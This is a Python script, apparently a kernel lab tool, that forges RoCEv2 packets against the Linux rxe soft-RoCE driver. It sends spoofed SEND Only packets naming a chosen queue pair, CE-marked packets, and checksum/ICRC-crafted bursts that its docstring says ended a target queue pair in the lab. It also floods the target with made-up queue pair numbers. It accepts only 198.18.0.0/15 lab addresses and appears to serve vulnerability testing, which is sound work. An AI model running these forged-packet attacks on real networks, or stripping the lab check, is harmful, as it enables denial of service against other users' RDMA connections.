#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""forge_roce.py: send RoCEv2-looking packets that rxe did not send.

  forge_roce.py udp DST DQPN [COUNT]
      COUNT (default 50) datagrams to DST:4791 from an ordinary UDP socket
      (no privilege needed), each a BTH (SEND Only) naming QP DQPN and a
      few bytes: what any local user can put on the wire.
  forge_roce.py ce SRC DST DQPN [COUNT]
      COUNT (default 20) CE-marked RoCEv2 packets (SEND Only naming DQPN,
      correct ICRC) from SRC to DST over a raw IPv4 socket (root); DST may
      be the link's broadcast address.
  forge_roce.py ce-csum SRC DST DQPN [COUNT]
      as ce, with a correct non-zero UDP checksum, which rxe never sends
      (back to back, UDP GRO with rx-gro-list merges them into one skb),
      and a wrong ICRC, so that rxe drops each: a burst of 64 with a
      correct one ended the QP they named in the lab.
  forge_roce.py ce-badicrc SRC DST DQPN [COUNT]
      as ce, with a wrong ICRC (rxe drops each), UDP checksum 0.
  forge_roce.py flood SRC DST COUNT [SEED]
      COUNT RoCEv2 packets (SEND Only, not ECN-marked, correct ICRC) from
      SRC to DST over a raw IPv4 socket (root), each naming a different
      QPN drawn at random (SEED, default 1) from 0x100000-0xffffff, above
      every QPN rxe hands out: a flood of made-up QPs.

Only lab addresses (198.18.0.0/15) are accepted."""
import ipaddress
import random
import socket
import struct
import sys

from forge_cnp import icrc  # the same ICRC over the same masked headers

LAB = ipaddress.ip_network('198.18.0.0/15')
OP_SEND_ONLY = 0x04


def lab_addr(s):
    a = ipaddress.ip_address(s)
    if a not in LAB:
        sys.exit('forge_roce: only 198.18.0.0/15 addresses')
    return a


def bth(dqpn, psn):
    return bytes([OP_SEND_ONLY, 0, 0xff, 0xff]) + struct.pack('>II', dqpn & 0xffffff,
                                                               psn & 0xffffff)



def inet_csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ce_packet(src, dst, dqpn, ident, tos=0x03, csum=False, bad_icrc=False):
    payload = bth(dqpn, ident) + bytes(16)
    l4len = 8 + len(payload) + 4
    udp = struct.pack('>HHHH', 0xc321, 4791, l4len, 0)
    # TOS 0x03: DSCP 0, ECN CE.
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, tos, 20 + l4len, ident, 0x4000, 64, 17, 0,
                     src.packed, dst.packed)
    pkt = ip + udp + payload
    crc = icrc(pkt)  # the ICRC masks the UDP checksum: it may come after
    pkt += bytes(b ^ 0xff for b in crc) if bad_icrc else crc
    if csum:
        c = inet_csum(src.packed + dst.packed + struct.pack('>BBH', 0, 17, l4len) +
                      pkt[20:]) or 0xffff
        pkt = pkt[:26] + struct.pack('>H', c) + pkt[28:]
    return pkt


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    mode = sys.argv[1]
    if mode == 'udp':
        dst = lab_addr(sys.argv[2])
        dqpn = int(sys.argv[3], 0)
        count = int(sys.argv[4]) if len(sys.argv) > 4 else 50
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for i in range(count):
            s.sendto(bth(dqpn, i) + bytes(20), (str(dst), 4791))
    elif mode in ('ce', 'ce-csum', 'ce-badicrc') and len(sys.argv) >= 5:
        src, dst = lab_addr(sys.argv[2]), lab_addr(sys.argv[3])
        dqpn = int(sys.argv[4], 0)
        count = int(sys.argv[5]) if len(sys.argv) > 5 else 20
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for i in range(count):
            # A non-zero ID: the kernel would pick one for 0, after the ICRC.
            # Consecutive IDs, DF: what GRO takes for one flow's packets.
            merge = mode == 'ce-csum'
            s.sendto(ce_packet(src, dst, dqpn, 0x2000 + i, csum=merge,
                               bad_icrc=mode != 'ce'),
                     (str(dst), 0))
    elif mode == 'flood' and len(sys.argv) >= 5:
        src, dst = lab_addr(sys.argv[2]), lab_addr(sys.argv[3])
        count = int(sys.argv[4])
        rng = random.Random(int(sys.argv[5]) if len(sys.argv) > 5 else 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        for i, dqpn in enumerate(rng.sample(range(0x100000, 0x1000000), count)):
            s.sendto(ce_packet(src, dst, dqpn, 1 + i % 0xfffe, tos=0), (str(dst), 0))
    else:
        sys.exit(__doc__)


main()
